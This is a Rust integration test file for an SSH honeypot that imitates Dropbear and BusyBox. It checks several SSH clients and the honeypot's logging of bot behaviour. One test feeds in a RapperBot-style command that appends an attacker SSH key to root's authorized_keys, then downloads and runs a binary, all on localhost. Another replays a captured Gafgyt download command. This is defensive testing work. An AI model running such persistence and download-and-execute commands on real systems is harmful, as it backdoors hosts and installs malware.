//! The SSH door against the other clients bots and tools are built on: paramiko
//! (exec, a pty shell, the method list, every algorithm it shares with Dropbear
//! 2022.83 pinned in turn), a RapperBot-style client, the real Gafgyt SSH session of
//! `testdata/sessions`, asyncssh and libssh2 (`ssh2-python`), and Go's
//! `x/crypto/ssh`, each with exec, a pty shell and its algorithms pinned in turn.
//! All installed by `scripts/test`; all on 127.0.0.1.

#![allow(
    clippy::indexing_slicing,
    clippy::unwrap_used,
    clippy::expect_used,
    clippy::panic,
    clippy::print_stdout
)]

mod util;

use std::io::Write;
use std::path::Path;
use std::process::{Command, Stdio};

use util::{test_config, Sensor};

fn start() -> Sensor {
    Sensor::start_ssh(&test_config("oracle", "", ""))
}

/// Runs the paramiko client (`tests/clients/paramiko_client.py`, with the venv's
/// Python that `scripts/test` puts first on PATH) and returns what it printed.
fn paramiko(args: serde_json::Value) -> serde_json::Value {
    let script = Path::new(env!("CARGO_MANIFEST_DIR")).join("tests/clients/paramiko_client.py");
    let out = Command::new("python3")
        .arg(&script)
        .arg(args.to_string())
        .output()
        .expect("python3 (scripts/test makes a venv with paramiko and puts it on PATH)");
    let stderr = String::from_utf8_lossy(&out.stderr);
    assert!(
        !stderr.contains("No module named 'paramiko'"),
        "paramiko is missing: run the tests through scripts/test (it installs paramiko into target/test-tools/venv)"
    );
    assert!(out.status.success(), "paramiko client failed: {stderr}");
    serde_json::from_slice(&out.stdout).unwrap_or_else(|e| panic!("{e}: {stderr}"))
}

fn decoded(v: &serde_json::Value) -> Vec<u8> {
    use std::io::Read;
    // The standard alphabet with padding, decoded by hand-free means: Python's base64
    // round-trips through the `base64` command.
    let mut child = Command::new("base64")
        .arg("-d")
        .stdin(Stdio::piped())
        .stdout(Stdio::piped())
        .spawn()
        .unwrap();
    child
        .stdin
        .take()
        .unwrap()
        .write_all(v.as_str().unwrap().as_bytes())
        .unwrap();
    let mut out = Vec::new();
    child.stdout.take().unwrap().read_to_end(&mut out).unwrap();
    child.wait().unwrap();
    out
}

#[test]
fn paramiko_runs_exec_and_a_pty_shell() {
    let sensor = start();
    let port = sensor.ssh.unwrap().port();
    let exec = paramiko(serde_json::json!({
        "port": port, "user": "root", "password": "xc3511",
        "exec": "echo from-paramiko; exit 5"
    }));
    assert_eq!(exec["server_version"], "SSH-2.0-dropbear_2022.83");
    assert_eq!(exec["auth"], "ok");
    assert_eq!(
        exec["allowed"],
        serde_json::json!(["publickey", "password"])
    );
    assert_eq!(exec["exit_status"], 5);
    assert_eq!(decoded(&exec["stdout"]), b"from-paramiko\n");
    let shell = paramiko(serde_json::json!({
        "port": port, "user": "root", "password": "xc3511",
        "shell": "echo $((40+2))\rexit\r"
    }));
    let out = String::from_utf8_lossy(&decoded(&shell["stdout"])).into_owned();
    assert!(out.contains("\r\n42\r\n"), "{out}");
    assert_eq!(shell["exit_status"], 0);
    let wrong = paramiko(serde_json::json!({
        "port": port, "user": "root", "password": "nope", "exec": "true"
    }));
    assert_eq!(wrong["auth"], "failed");
    // Together these offer each algorithm paramiko shares with Dropbear 2022.83
    // (paramiko has neither chacha20-poly1305 nor plain curve25519-sha256).
    let combos = [
        [
            "curve25519-sha256@libssh.org",
            "ssh-ed25519",
            "aes128-ctr",
            "hmac-sha2-256",
            "zlib@openssh.com",
        ],
        [
            "ecdh-sha2-nistp256",
            "ecdsa-sha2-nistp256",
            "aes256-ctr",
            "hmac-sha1",
            "none",
        ],
        [
            "ecdh-sha2-nistp384",
            "rsa-sha2-256",
            "aes128-ctr",
            "hmac-sha1",
            "none",
        ],
        [
            "ecdh-sha2-nistp521",
            "ssh-rsa",
            "aes256-ctr",
            "hmac-sha2-256",
            "none",
        ],
        [
            "diffie-hellman-group14-sha256",
            "ssh-ed25519",
            "aes128-ctr",
            "hmac-sha2-256",
            "none",
        ],
        [
            "diffie-hellman-group14-sha1",
            "ecdsa-sha2-nistp256",
            "aes128-ctr",
            "hmac-sha1",
            "none",
        ],
    ];
    for [kex, key, cipher, mac, comp] in combos {
        let pinned = paramiko(serde_json::json!({
            "port": port, "user": "root", "password": "xc3511",
            "kex": [kex], "keys": [key], "ciphers": [cipher], "digests": [mac],
            "compression": [comp], "exec": "echo pinned-paramiko"
        }));
        assert_eq!(pinned["auth"], "ok", "{kex} {key} {cipher} {mac} {comp}");
        assert_eq!(decoded(&pinned["stdout"]), b"pinned-paramiko\n", "{kex}");
    }
    let events = sensor.wait_for_events("the pinned sessions", |e| {
        e.iter()
            .filter(|e| e["eventid"] == "cowrie.session.closed")
            .count()
            == 3 + combos.len()
    });
    for [kex, key, cipher, mac, comp] in combos {
        assert!(
            events.iter().any(|e| e["eventid"] == "cowrie.client.kex"
                && e["kexAlgs"][0] == kex
                // paramiko adds the key's certificate type after it.
                && e["keyAlgs"][0] == key
                && e["encCS"] == serde_json::json!([cipher])
                && e["macCS"] == serde_json::json!([mac])
                && e["compCS"] == serde_json::json!([comp])),
            "{kex} {key} {cipher} {mac} {comp}"
        );
    }
}

#[test]
fn a_rapperbot_style_client_is_labelled_and_its_key_and_download_recorded() {
    let sensor = start();
    let port = sensor.ssh.unwrap().port();
    // RapperBot: its own identification, DH with aes128-ctr, a key appended to
    // root's authorized_keys, then its binary fetched.
    let bot = paramiko(serde_json::json!({
        "port": port, "user": "root", "password": "xc3511",
        "ident": "SSH-2.0-HELLOWORLD",
        "kex": ["diffie-hellman-group14-sha1"],
        "ciphers": ["aes128-ctr"],
        "exec": "mkdir -p ~/.ssh; echo 'ssh-rsa AAAAB3NzaC1yc2EAAAADAQABAAAAgQC0 helloworld' >> ~/.ssh/authorized_keys; cd /tmp; wget http://127.0.0.1:8000/rapper.x86; chmod +x rapper.x86; ./rapper.x86"
    }));
    assert_eq!(bot["auth"], "ok");
    assert_eq!(bot["cipher"], "aes128-ctr");
    let events = sensor.wait_for_events("the bot's session end", |e| {
        e.iter().any(|e| e["eventid"] == "cowrie.session.closed")
    });
    let find = |id: &str| {
        events
            .iter()
            .find(|e| e["eventid"] == id)
            .unwrap_or_else(|| panic!("no {id}: {events:#?}"))
    };
    assert_eq!(
        find("cowrie.client.version")["version"],
        "SSH-2.0-HELLOWORLD"
    );
    assert_eq!(
        find("cowrie.client.kex")["kexAlgs"][0],
        "diffie-hellman-group14-sha1"
    );
    assert_eq!(
        find("busybait.download.request")["url"],
        "http://127.0.0.1:8000/rapper.x86"
    );
    assert_eq!(
        find("busybait.persistence.ssh_key")["comment"],
        "helloworld"
    );
    assert_eq!(find("busybait.session.family")["family"], "rapperbot");
}

#[test]
fn the_real_gafgyt_ssh_session_runs_to_its_end() {
    // testdata/sessions/gafgyt-ssh-2023-12-09: a Go client (SSH-2.0-Go) that got in
    // with admin:admin and ran one line (its hosts rewritten to 127.0.0.1).
    let text = std::fs::read_to_string(
        util::testdata().join("sessions/gafgyt-ssh-2023-12-09.cowrie.jsonl"),
    )
    .unwrap();
    let command = text
        .lines()
        .filter_map(|l| serde_json::from_str::<serde_json::Value>(l).ok())
        .find(|e| e["eventid"] == "cowrie.command.input")
        .unwrap()["input"]
        .as_str()
        .unwrap()
        .to_string();
    let sensor = start();
    let port = sensor.ssh.unwrap().port();
    let run = paramiko(serde_json::json!({
        "port": port, "user": "admin", "password": "admin",
        "ident": "SSH-2.0-Go", "exec": command
    }));
    assert_eq!(run["auth"], "ok");
    let events = sensor.wait_for_events("the session's end", |e| {
        e.iter().any(|e| e["eventid"] == "cowrie.session.closed")
    });
    let urls: Vec<&str> = events
        .iter()
        .filter(|e| e["eventid"] == "busybait.download.request" && e["tool"] != "command-line")
        .map(|e| e["url"].as_str().unwrap())
        .collect();
    // The oracle has wget, tftp and ftpget (and no curl).
    assert_eq!(
        urls,
        [
            "http://127.0.0.1/z.sh",
            "tftp://127.0.0.1:69/tz.sh",
            "tftp://127.0.0.1:69/tz2.sh",
            "ftp://anonymous@127.0.0.1:21/z1.sh"
        ]
    );
    let family = events
        .iter()
        .find(|e| e["eventid"] == "busybait.session.family")
        .unwrap();
    assert_eq!(family["family"], "gafgyt");
}

#[test]
fn asyncssh_and_libssh2_run_exec_and_a_pty_shell() {
    let sensor = start();
    let script = Path::new(env!("CARGO_MANIFEST_DIR")).join("tests/clients/more_clients.py");
    // Together these offer each of Dropbear 2022.83's algorithms (both clients have
    // them all; only asyncssh has zlib@openssh.com).
    let combos = serde_json::json!([
        {"kex": "curve25519-sha256", "key": "ssh-ed25519",
         "cipher": "chacha20-poly1305@openssh.com", "mac": "hmac-sha2-256", "comp": "zlib@openssh.com"},
        {"kex": "curve25519-sha256@libssh.org", "key": "ecdsa-sha2-nistp256",
         "cipher": "aes128-ctr", "mac": "hmac-sha1"},
        {"kex": "ecdh-sha2-nistp256", "key": "rsa-sha2-256",
         "cipher": "aes256-ctr", "mac": "hmac-sha2-256"},
        {"kex": "ecdh-sha2-nistp384", "key": "ssh-rsa",
         "cipher": "aes128-ctr", "mac": "hmac-sha2-256"},
        {"kex": "ecdh-sha2-nistp521", "key": "ssh-ed25519",
         "cipher": "aes256-ctr", "mac": "hmac-sha1"},
        {"kex": "diffie-hellman-group14-sha256", "key": "ecdsa-sha2-nistp256",
         "cipher": "aes128-ctr", "mac": "hmac-sha2-256"},
        {"kex": "diffie-hellman-group14-sha1", "key": "rsa-sha2-256",
         "cipher": "chacha20-poly1305@openssh.com", "mac": "hmac-sha1"},
    ]);
    let out = Command::new("python3")
        .arg(&script)
        .arg(sensor.ssh.unwrap().port().to_string())
        .arg(combos.to_string())
        .output()
        .expect("python3 (scripts/test makes a venv with asyncssh and ssh2-python)");
    let stderr = String::from_utf8_lossy(&out.stderr);
    assert!(
        !stderr.contains("No module named"),
        "asyncssh or ssh2-python is missing: run the tests through scripts/test ({stderr})"
    );
    assert!(out.status.success(), "{stderr}");
    let r: serde_json::Value = serde_json::from_slice(&out.stdout).unwrap();
    assert_eq!(r["asyncssh"]["server_version"], "SSH-2.0-dropbear_2022.83");
    for (client, word, status) in [
        ("asyncssh", "from-asyncssh", 6),
        ("libssh2", "from-libssh2", 7),
    ] {
        let c = &r[client];
        assert_eq!(c["exec_stdout"], format!("{word}\n"), "{client}");
        assert_eq!(c["exec_status"], status, "{client}");
        let shell = c["shell"].as_str().unwrap();
        assert!(
            shell.starts_with("\r\n\r\nBusyBox v1.35.0"),
            "{client}: {shell}"
        );
        assert!(
            shell.ends_with("\r\n42\r\n~ # \u{1b}[6n"),
            "{client}: {shell}"
        );
        assert_eq!(c["shell_status"], 0, "{client}");
        let word = format!("pinned-{client}\n");
        assert_eq!(
            c["pinned"],
            serde_json::json!(vec![word; combos.as_array().unwrap().len()]),
            "{client}"
        );
    }
    // Each pinned client offered what it was given, and nothing else.
    let events = sensor.wait_for_events("the pinned sessions", |e| {
        e.iter()
            .filter(|e| e["eventid"] == "cowrie.session.closed")
            .count()
            == 2 + 2 * combos.as_array().unwrap().len()
    });
    for (client, version) in [("asyncssh", "AsyncSSH"), ("libssh2", "libssh2")] {
        for combo in combos.as_array().unwrap() {
            let comp = if client == "asyncssh" {
                combo.get("comp").cloned().unwrap_or("none".into())
            } else {
                "none".into()
            };
            let offered = |e: &serde_json::Value| {
                let session = &e["session"];
                // Both add the extension and strict-kex markers (libssh2 first).
                let kex: Vec<&serde_json::Value> = e["kexAlgs"]
                    .as_array()
                    .unwrap()
                    .iter()
                    .filter(|k| *k != "ext-info-c" && *k != "kex-strict-c-v00@openssh.com")
                    .collect();
                kex == [&combo["kex"]]
                    && e["keyAlgs"] == serde_json::json!([combo["key"]])
                    && e["encCS"] == serde_json::json!([combo["cipher"]])
                    && e["macCS"] == serde_json::json!([combo["mac"]])
                    && e["compCS"] == serde_json::json!([comp])
                    && events.iter().any(|v| {
                        v["session"] == *session
                            && v["eventid"] == "cowrie.client.version"
                            && v["version"].as_str().unwrap().contains(version)
                    })
            };
            assert!(
                events
                    .iter()
                    .any(|e| e["eventid"] == "cowrie.client.kex" && offered(e)),
                "{client} {combo}"
            );
        }
    }
}

#[test]
fn gos_ssh_client_connects_with_its_defaults_and_every_shared_algorithm() {
    // Built here from tests/clients/goclient with Debian's Go and x/crypto, offline
    // (GOPATH mode, no module download).
    let dir = tempfile::tempdir().unwrap();
    let binary = dir.path().join("goclient");
    let built = Command::new("go")
        .args(["build", "-o"])
        .arg(&binary)
        .arg(".")
        .current_dir(Path::new(env!("CARGO_MANIFEST_DIR")).join("tests/clients/goclient"))
        .env("GO111MODULE", "off")
        .env("GOPATH", "/usr/share/gocode")
        .env("GOCACHE", dir.path().join("cache"))
        .output()
        .expect("go is missing: scripts/test installs Debian's golang-go and golang-golang-x-crypto-dev");
    assert!(
        built.status.success(),
        "building the Go client: {}",
        String::from_utf8_lossy(&built.stderr)
    );
    let sensor = start();
    let port = sensor.ssh.unwrap().port().to_string();
    // Together these offer every algorithm Go's client shares with Dropbear 2022.83
    // (kex, cipher, host key, MAC; Go has no zlib).
    let combos: [&[&str]; 9] = [
        &[],
        &[
            "curve25519-sha256",
            "chacha20-poly1305@openssh.com",
            "ecdsa-sha2-nistp256",
            "hmac-sha2-256",
        ],
        &[
            "curve25519-sha256@libssh.org",
            "aes128-ctr",
            "ssh-ed25519",
            "hmac-sha2-256",
        ],
        &[
            "ecdh-sha2-nistp256",
            "aes256-ctr",
            "ecdsa-sha2-nistp256",
            "hmac-sha1",
        ],
        &[
            "ecdh-sha2-nistp384",
            "aes128-ctr",
            "rsa-sha2-256",
            "hmac-sha2-256",
        ],
        &[
            "ecdh-sha2-nistp521",
            "aes256-ctr",
            "ecdsa-sha2-nistp256",
            "hmac-sha2-256",
        ],
        &[
            "diffie-hellman-group14-sha256",
            "aes128-ctr",
            "ssh-ed25519",
            "hmac-sha1",
        ],
        &[
            "diffie-hellman-group14-sha1",
            "chacha20-poly1305@openssh.com",
            "ssh-ed25519",
            "hmac-sha2-256",
        ],
        &[
            "curve25519-sha256@libssh.org",
            "aes128-ctr",
            "ssh-rsa",
            "hmac-sha1",
        ],
    ];
    for combo in combos {
        let out = Command::new(&binary)
            .arg(&port)
            .args(combo)
            .output()
            .unwrap();
        let stderr = String::from_utf8_lossy(&out.stderr);
        assert!(out.status.success(), "{combo:?}: {stderr}");
        let r: serde_json::Value = serde_json::from_slice(&out.stdout).unwrap();
        assert_eq!(r["server_version"], "SSH-2.0-dropbear_2022.83", "{combo:?}");
        assert_eq!(r["exec_stdout"], "from-go\n", "{combo:?}");
        assert_eq!(r["exec_status"], 9, "{combo:?}");
        let shell = r["shell"].as_str().unwrap();
        assert!(
            shell.contains("~ # \u{1b}[6necho $((5*8+2))\r\n42\r\n"),
            "{combo:?}: {shell}"
        );
        assert_eq!(r["shell_status"], 0, "{combo:?}");
    }
    let events = sensor.wait_for_events("nine Go sessions", |e| {
        e.iter()
            .filter(|e| e["eventid"] == "cowrie.session.closed")
            .count()
            == 9
    });
    // Each pinned client offered only what it was given.
    for combo in combos.iter().filter(|c| !c.is_empty()) {
        let offered = |e: &serde_json::Value| {
            e["kexAlgs"][0] == combo[0]
                && e["encCS"] == serde_json::json!([combo[1]])
                && e["keyAlgs"] == serde_json::json!([combo[2]])
                && e["macCS"] == serde_json::json!([combo[3]])
        };
        assert!(
            events
                .iter()
                .any(|e| e["eventid"] == "cowrie.client.kex" && offered(e)),
            "{combo:?}"
        );
    }
    assert!(events
        .iter()
        .filter(|e| e["eventid"] == "cowrie.client.version")
        .all(|e| e["version"] == "SSH-2.0-Go"));
}
